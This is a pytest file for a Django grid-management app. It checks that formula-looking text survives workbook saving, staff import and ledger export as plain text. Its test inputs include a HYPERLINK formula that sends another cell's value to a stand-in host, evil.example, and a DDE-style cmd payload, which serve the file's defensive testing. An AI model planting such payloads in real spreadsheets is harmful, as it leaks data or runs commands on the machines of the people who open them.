"""Workbooks never carry a formula: a staff name typed as =HYPERLINK(...) comes out of every XLSX writer as
text (geogrid/core/xlsx.py), and an import keeps such a cell as the text it is."""
import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from geogrid.core.xlsx import save_workbook
from geogrid.grids.models import Grid
from geogrid.imports.services import ImportOptions, run_import
from geogrid.staff.models import StaffMember
from tests.demo_facts import COMMUNITY

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&I2,"点击")'


def formula_cells(path) -> list[str]:
    """Coordinates of every cell openpyxl reads back as a formula."""
    book = load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("text", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1"])
def test_the_save_helper_writes_formula_looking_text_as_text(tmp_path, text):
    book = Workbook()
    book.active.append([text, "普通文字", 3])
    save_workbook(book, tmp_path / "x.xlsx")
    cell = load_workbook(tmp_path / "x.xlsx").active["A1"]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert formula_cells(tmp_path / "x.xlsx") == []


def test_plain_openpyxl_would_have_written_a_formula(tmp_path):
    """The hole the helper closes (so the test above can fail): openpyxl's own save makes it a formula."""
    book = Workbook()
    book.active.append([PAYLOAD])
    book.save(tmp_path / "raw.xlsx")
    assert formula_cells(tmp_path / "raw.xlsx") == ["Sheet!A1"]


def test_a_staff_name_imported_as_a_formula_string_is_text_in_the_grid_ledger(tmp_path):
    grid = Grid.objects.current().filter(community__code=COMMUNITY, level=1).order_by("code").first()
    source = Workbook()
    source.active.append(["姓名", "角色", "电话", "网格编码"])
    source.active.append([PAYLOAD, "专职网格员", "13800000000", grid.code])
    save_workbook(source, tmp_path / "staff.xlsx")  # as text: a formula cell would import its cached value
    result = run_import(tmp_path / "staff.xlsx", ImportOptions(target="staff"))
    assert result.ok, result.errors
    assert StaffMember.objects.filter(name=PAYLOAD).exists()  # stored as the text it is, never evaluated

    out = tmp_path / "ledger.xlsx"
    call_command("export_data", "--target", "grids", "--format", "xlsx", "--area", COMMUNITY, "-o", str(out),
                 verbosity=0)
    assert formula_cells(out) == []
    rows = {r[0].value: r for r in load_workbook(out).active.iter_rows(min_row=2)}
    assert PAYLOAD in rows[grid.code][7].value and rows[grid.code][7].data_type == "s"
